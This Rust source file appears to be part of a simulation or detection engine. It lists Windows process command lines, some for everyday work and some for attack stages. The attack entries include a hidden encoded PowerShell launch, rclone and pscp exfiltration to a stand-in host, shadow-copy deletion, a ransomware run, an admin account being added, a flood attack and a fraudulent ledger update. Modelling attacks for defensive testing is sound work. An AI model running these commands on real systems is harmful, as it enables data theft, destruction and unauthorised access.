//! Programs that processes run: those of everyday work, and those that attacks start.

use crate::engine::settings::table;

/// A program, and how it is started.
#[derive(Debug)]
pub struct Program {
    /// The folder that it is in.
    pub folder: &'static str,
    /// The name of its file.
    pub name: &'static str,
    /// What follows the file in the command line.
    pub arguments: &'static str,
    /// The folder of the program that starts it, and the name of its file.
    pub parent: [&'static str; 2],
}

const SYSTEM: &str = r"C:\Windows\System32";
const OFFICE: &str = r"C:\Program Files\Office";
const TEMPORARY: &str = r"C:\Users\Public\Temp";
const SHELL: [&str; 2] = [r"C:\Windows", "explorer.exe"];
const SERVICES: [&str; 2] = [SYSTEM, "services.exe"];
const COMMANDS: [&str; 2] = [SYSTEM, "cmd.exe"];

const fn program(
    folder: &'static str,
    name: &'static str,
    arguments: &'static str,
    parent: [&'static str; 2],
) -> Program {
    Program { folder, name, arguments, parent }
}

#[rustfmt::skip]
table! {
    /// A program.
    enum Name;
    /// All programs; the first [`EVERYDAY`] are those of everyday work.
    static PROGRAMS: Program;
    Mail: program(OFFICE, "outlook.exe", "", SHELL);
    Text: program(OFFICE, "winword.exe", "/n", SHELL);
    Sheet: program(OFFICE, "excel.exe", "", SHELL);
    Browser: program(r"C:\Program Files\Browser", "browser.exe", "--profile default", SHELL);
    Chat: program(r"C:\Program Files\Chat", "chat.exe", "--minimized", SHELL);
    Agent: program(r"C:\Program Files\Agent", "agent.exe", "--service", SERVICES);
    Update: program(SYSTEM, "svchost.exe", "-k netsvcs -p", SERVICES);
    Editor: program(r"C:\Program Files\Editor", "editor.exe", "", SHELL);
    Lure: program(r"C:\Program Files\Browser", "browser.exe", "https://login-corp.example/session", [OFFICE, "outlook.exe"]);
    Macro: program(r"C:\Windows\System32\WindowsPowerShell\v1.0", "powershell.exe", "-NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA", [OFFICE, "winword.exe"]);
    Beacon: program(SYSTEM, "rundll32.exe", r"C:\Users\Public\Temp\sync.dll,Start", [r"C:\Windows\System32\WindowsPowerShell\v1.0", "powershell.exe"]);
    CloudCopy: program(TEMPORARY, "rclone.exe", "copy D:\\Share remote:backup --transfers 8", COMMANDS);
    Copy: program(SYSTEM, "robocopy.exe", r"\\files.corp.example\share C:\Users\Public\Staging /E", COMMANDS);
    Archive: program(TEMPORARY, "7z.exe", r"a -mhe=on -pX C:\Users\Public\Staging\data.7z C:\Users\Public\Staging", COMMANDS);
    Transfer: program(TEMPORARY, "pscp.exe", r"-batch C:\Users\Public\Staging\data.7z drop.transfer.example:/in", COMMANDS);
    RemoteService: program(TEMPORARY, "psexesvc.exe", "", SERVICES);
    Encryptor: program(TEMPORARY, "locker.exe", "--all-drives", [TEMPORARY, "psexesvc.exe"]);
    ShadowCopies: program(SYSTEM, "vssadmin.exe", "delete shadows /all /quiet", COMMANDS);
    Listing: program(SYSTEM, "cmd.exe", r"/c dir /s /b \\files.corp.example\share", SHELL);
    RemoteDesktop: program(SYSTEM, "mstsc.exe", "/v:ws-7.corp.example", COMMANDS);
    Flood: program(TEMPORARY, "flood.exe", "--target shop.corp.example --threads 64", COMMANDS);
    Query: program(r"C:\Program Files\SQL", "sqlcmd.exe", "-S db.corp.example -Q \"UPDATE ledger SET amount = amount * 1.1\"", COMMANDS);
    Administrators: program(SYSTEM, "net.exe", "localgroup administrators helper /add", COMMANDS);
}

/// How many programs are those of everyday work.
pub const EVERYDAY: u32 = 8;

impl Program {
    /// The command line.
    pub fn command_line(&self) -> String {
        let space = if self.arguments.is_empty() { "" } else { " " };
        format!("{}{space}{}", self.executable(), self.arguments)
    }

    /// The path of its file.
    pub fn executable(&self) -> String {
        format!(r"{}\{}", self.folder, self.name)
    }

    /// The path of the program that starts it.
    pub fn parent_executable(&self) -> String {
        self.parent.join(r"\")
    }
}
